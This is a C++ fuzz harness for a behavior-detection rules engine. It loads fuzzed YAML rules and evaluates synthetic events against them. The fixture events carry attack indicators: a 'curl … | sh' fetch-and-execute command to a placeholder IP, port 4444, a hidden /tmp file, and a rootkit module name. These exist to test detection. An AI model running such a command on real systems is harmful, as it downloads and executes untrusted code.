// Fuzzes the behavior rules loader (YAML documents, detection, modifiers,
// conditions, correlations, the mamori block) and then matches a few events
// with whatever loaded: yaml-cpp and RE2 errors must stop at the module
// boundary, and compiled rules must be safe to evaluate.
#include <cstddef>
#include <cstdint>
#include <string_view>
#include <vector>

#include "mamori/behavior/rules/engine.h"
#include "mamori/behavior/rules/rule_set.h"

namespace {

using mamori::behavior::Event;
using mamori::behavior::EventType;

std::vector<Event> Events() {
  std::vector<Event> events;
  for (int t = 0; t < mamori::behavior::kEventTypeCount; ++t) {
    Event e;
    e.type = static_cast<EventType>(t);
    e.timestamp_ns = 1'000'000'000ull * static_cast<uint64_t>(t + 1);
    e.process.pid = 100 + t;
    e.process.image = "/usr/bin/bash";
    e.process.command_line = "bash -c 'curl -s http://203.0.113.7/x | sh' \xE2\x80\x93x";
    e.process.user = "root";
    e.parent.image = "/usr/sbin/sshd";
    e.target_filename = "/tmp/.X11-unix/evil";
    e.destination_ip = "::ffff:10.1.2.3";
    e.destination_port = 4444;
    e.module_name = "diamorphine";
    events.push_back(e);
  }
  return events;
}

}  // namespace

extern "C" int LLVMFuzzerTestOneInput(const uint8_t* data, size_t size) {
  static const std::vector<Event> kEvents = Events();
  std::string_view text(reinterpret_cast<const char*>(data), size);
  mamori::behavior::rules::LoadReport report;
  auto set = mamori::behavior::rules::RuleSet::LoadFromString(text, "fuzz.yml", &report);
  if (!set.ok()) return 0;
  if (report.loaded + report.refused + report.skipped < 0) __builtin_trap();
  (void)report.ToText();
  mamori::behavior::rules::Engine engine(*set);
  std::vector<mamori::behavior::rules::Alert> alerts;
  for (const Event& e : kEvents) engine.Process(e, &alerts);
  engine.AdvanceTime(UINT64_MAX, &alerts);
  return 0;
}
